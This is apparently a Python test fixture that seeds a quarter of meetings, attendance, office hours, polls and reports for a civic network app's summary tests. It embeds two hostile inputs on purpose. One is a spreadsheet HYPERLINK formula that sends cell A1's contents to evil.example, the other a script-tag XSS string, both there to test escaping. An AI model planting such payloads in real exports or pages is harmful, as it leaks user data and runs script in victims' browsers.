"""A quarter of one network for the summary's tests (III kw. 2026 in `cyfrowe`), written
straight into the real store: three meetings, who came (one city at every meeting, one that
missed the last two), a booked and a held office hour, two closed feedback polls, a submitted
report, a draft and a missing one; a hostile meeting title and office-hours topic."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from models import directory
from models.db import Database
from models.enums import Role, Standing
from models.feedback import Poll, PollKind, PollParticipant, PollStatus, PollTally
from models.meetings import Answer, Meeting, MeetingFormat, Rsvp
from models.office_hours import BookingStatus, OfficeBooking, OfficeSession
from models.reports import MeetingReport, ReportStatus

WARSAW = ZoneInfo("Europe/Warsaw")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")'
HOSTILE_TOPIC = "<script>alert('dyżur')</script> e-usługi"


def warsaw(day: int, month: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=WARSAW).astimezone(UTC)


@dataclass(frozen=True)
class Quarter:
    meetings: list[int]  # in July, August, September
    faithful: str  # a city present at every meeting
    fading: str  # present at the first, missed the next two
    submitted_on: datetime


def _rating(text: str) -> dict[str, object]:
    return {"kind": "rating", "text": text, "options": [], "builtin": False}


def seed_quarter(db: Database) -> Quarter:
    with db.session() as s:
        network = directory.require_network(s, "cyfrowe")
        nid = network.id or 0
        reps: dict[int, list[int]] = {}
        for person, role, city in directory.members(s, nid):
            if role != Role.REPRESENTATIVE or city is None:
                continue
            if directory.standing_of(s, city.id, nid) in (Standing.LAUREATE, Standing.FINALIST):
                reps.setdefault(city.id or 0, []).append(person.id or 0)
        faithful_id, fading_id = sorted(reps)[:2]
        meetings = []
        for number, (when, title) in enumerate(
            [
                (warsaw(10, 7, 10), "Spotkanie lipcowe"),
                (warsaw(20, 8, 10), HOSTILE_TITLE),
                (warsaw(15, 9, 10), "Spotkanie wrześniowe"),
            ]
        ):
            meeting = Meeting(
                network_id=nid,
                title=title,
                starts_at=when,
                duration_minutes=300,
                format=MeetingFormat.IN_PERSON,
                place="Łomża",
                rsvp_deadline=when - timedelta(days=3),
                created_at=when - timedelta(days=30),
            )
            s.add(meeting)
            s.flush()
            meetings.append(meeting.id or 0)
            came = [faithful_id] + ([fading_id] if number == 0 else [])
            for city_id in came:
                for person_id in reps[city_id][:1]:
                    s.add(
                        Rsvp(
                            meeting_id=meeting.id or 0,
                            person_id=person_id,
                            answer=Answer.IN_PERSON,
                            answered_at=when - timedelta(days=5),
                            checked_in_at=when + timedelta(minutes=5),
                        )
                    )
        # office hours in August: one held, one booked with a hostile topic
        session = OfficeSession(
            network_id=nid,
            occurrence=warsaw(5, 8, 10),
            starts_at=warsaw(5, 8, 10),
            opens_at=warsaw(29, 7, 10),
            created_at=warsaw(20, 7, 10),
        )
        s.add(session)
        s.flush()
        for slot, city_id, topic, status in (
            (1, faithful_id, "Budżet obywatelski", BookingStatus.DONE),
            (2, fading_id, HOSTILE_TOPIC, BookingStatus.BOOKED),
        ):
            s.add(
                OfficeBooking(
                    session_id=session.id or 0,
                    slot=slot,
                    city_id=city_id,
                    person_id=reps[city_id][0],
                    topic=topic,
                    status=status,
                    active_slot=slot,  # a held booking keeps its slot (models.office_hours)
                    active_city=city_id,
                    created_at=warsaw(30, 7, 10),
                )
            )
        # feedback: July averages 4 (3 answers), August 5 (3 answers)
        for meeting_id, values in ((meetings[0], {"4": 3}), (meetings[1], {"5": 3})):
            poll = Poll(
                network_id=nid,
                meeting_id=meeting_id,
                kind=PollKind.MEETING,
                title="Ankieta",
                questions=[_rating("Jak oceniasz spotkanie?")],
                status=PollStatus.CLOSED,
                opens_at=warsaw(1, 7, 10),
                closes_at=warsaw(1, 9, 10),
                answered=sum(values.values()),
                finished=sum(values.values()),
            )
            s.add(poll)
            s.flush()
            for person_id in sorted({p for ps in reps.values() for p in ps})[:5]:
                s.add(PollParticipant(poll_id=poll.id or 0, person_id=person_id))
            for value, count in values.items():
                s.add(PollTally(poll_id=poll.id or 0, question=1, value=value, count=count))
        # reports: July submitted, August none, September a draft
        submitted_on = warsaw(17, 7, 12)
        for meeting_id, status in (
            (meetings[0], ReportStatus.SUBMITTED),
            (meetings[2], ReportStatus.DRAFT),
        ):
            s.add(
                MeetingReport(
                    meeting_id=meeting_id,
                    network_id=nid,
                    sections=[{"title": "Przebieg", "text": "Dobrze."}],
                    status=status,
                    created_at=warsaw(16, 7, 12),
                    updated_at=submitted_on,
                    submitted_at=submitted_on if status == ReportStatus.SUBMITTED else None,
                )
            )
        faithful = directory.city_name(s, faithful_id) or ""
        fading = directory.city_name(s, fading_id) or ""
    return Quarter(meetings, faithful, fading, submitted_on)
